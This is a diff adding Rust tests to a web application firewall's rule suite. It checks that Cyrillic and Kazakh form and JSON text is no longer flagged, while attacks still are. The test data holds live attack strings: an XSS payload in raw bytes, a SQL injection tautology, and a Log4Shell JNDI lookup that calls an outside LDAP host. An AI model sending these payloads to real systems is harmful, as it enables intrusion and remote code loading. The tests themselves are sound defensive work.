@@ -45,3 +45,47 @@ fn a_plain_page_passes_with_no_match() {
     assert_eq!(verdict.verdict, VerdictKind::Pass);
     assert_eq!((verdict.score, verdict.rules.len()), (0, 0));
 }
+
+#[test]
+fn russian_and_kazakh_text_passes_and_the_raw_byte_attacks_do_not() {
+    let Some(engine) = engine() else { return };
+    let rules = site(engine, &RuleSettings::default());
+    let form = "application/x-www-form-urlencoded";
+    let passing: [(&str, Vec<u8>); 4] = [
+        // м (D0 BC) and о (D0 BE): what 941310 matched in every such word.
+        ("/ru/appeals/new/", "MESSAGE=%D0%9F%D1%80%D0%BE%D1%88%D1%83+%D0%BF%D0%BE%D0%BC%D0%BE%D1%87%D1%8C+%D0%B4%D0%BE%D0%BC%D1%83+%E2%84%96+14".into()),
+        ("/kk/appeals/new/", "MESSAGE=%D2%9A%D0%BE%D2%93%D0%B0%D0%BC%D0%B4%D1%8B%D2%9B+%D0%BA%D0%B5%D2%A3%D0%B5%D1%81%D0%BA%D0%B5+%D3%A9%D1%82%D1%96%D0%BD%D1%96%D1%88".into()),
+        // Т а р а з: the low bytes of its code points read `"0@07`, SQL to libinjection.
+        ("/api/v1/profile", r#"{"city":"Тараз","office":"ЦОН Тараз","note":"Омск, мс мо"}"#.into()),
+        ("/api/v1/profile", r#"{"city":"\u0422\u0430\u0440\u0430\u0437"}"#.into()),
+    ];
+    for (uri, body) in passing {
+        let ctype = if body.starts_with(b"{") { "application/json" } else { form };
+        let verdict = explain(&rules, &common::post(uri, ctype, &body));
+        assert_eq!(
+            (verdict.verdict, verdict.rules.len()),
+            (VerdictKind::Pass, 0),
+            "{uri}: {:?}",
+            verdict.outcome.matches
+        );
+    }
+    // Raw 0xBC/0xBE bytes (not UTF-8) are still the attack 941310 was written for.
+    let raw = explain(&rules, &request("GET", "/?q=%BCscript%BEalert(1)%BC/script%BE"));
+    assert_eq!((raw.verdict, raw.rules.contains(&941310)), (VerdictKind::Block, true), "{:?}", raw.rules);
+    // Cyrillic text does not hide an attack next to it.
+    let mixed = explain(&rules, &request("GET", "/?q=%D0%A2%D0%B0%D1%80%D0%B0%D0%B7%27%20or%20%271%27%3D%271"));
+    assert_eq!(mixed.verdict, VerdictKind::Block, "{:?}", mixed.rules);
+}
+
+#[test]
+fn log4shell_in_a_header_is_refused_by_the_projects_rule() {
+    let Some(engine) = engine() else { return };
+    let rules = site(engine, &RuleSettings::default());
+    let mut req = request("GET", "/");
+    req.headers.insert("x-api-version", "${${lower:j}ndi:ldap://203.0.113.66/a}".parse().unwrap());
+    let verdict = explain(&rules, &req);
+    assert_eq!((verdict.verdict, verdict.rules.as_slice()), (VerdictKind::Block, [10030, 949110].as_slice()));
+    let mut plain = request("GET", "/");
+    plain.headers.insert("x-template", "Hello ${name}, price {price}".parse().unwrap());
+    assert_eq!(explain(&rules, &plain).verdict, VerdictKind::Pass);
+}
